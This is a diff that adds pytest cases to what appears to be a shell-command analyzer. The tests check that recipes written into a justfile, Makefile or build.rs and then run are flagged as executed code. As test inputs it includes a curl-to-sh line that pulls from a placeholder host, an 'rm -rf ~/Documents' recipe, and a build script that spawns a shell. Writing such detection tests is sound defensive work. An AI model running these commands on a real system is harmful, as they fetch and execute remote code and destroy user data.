@@ -168,3 +168,35 @@ def test_a_patch_printed_for_a_path_reads_its_content(command: str, tmp_path: Pa
 )
 def test_names_and_counts_of_a_path_print_no_content(command: str, tmp_path: Path) -> None:
     assert ops(command, tmp_path, "read") == []
+
+
+@pytest.mark.parametrize(
+    ("command", "text"),
+    [
+        ("printf 'default:\\n    curl -s https://x.example.net/j | sh\\n' > justfile && just",
+         "curl -s https://x.example.net/j | sh"),
+        ("printf 'all:\\n\\t@rm -rf ~/Documents\\n' > Makefile && make", "rm -rf ~/Documents"),
+    ],
+)  # fmt: skip
+def test_recipes_of_a_file_the_line_wrote_then_ran_are_judged_as_commands(
+    command: str, text: str, tmp_path: Path
+) -> None:
+    assert text in [e["code"]["text"] for e in ops(command, tmp_path, "exec")]
+
+
+def test_a_build_script_the_line_wrote_is_code_cargo_runs(tmp_path: Path) -> None:
+    command = "printf 'fn main(){std::process::Command::new(\"sh\").status().unwrap();}' > build.rs && cargo build"
+    assert [(e["code"]["lang"], e["known"]) for e in ops(command, tmp_path, "exec")] == [("rust", False)]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "printf 'fn main() { println!(\"cargo:rerun-if-changed=proto/api.proto\"); }' > build.rs && cargo build",
+        "just test",
+        "cargo build --release",
+        "make -j2",
+    ],
+)
+def test_a_plain_build_script_or_the_projects_own_files_run_nothing_unknown(command: str, tmp_path: Path) -> None:
+    assert [e for e in ops(command, tmp_path, "exec") if not e["known"]] == []
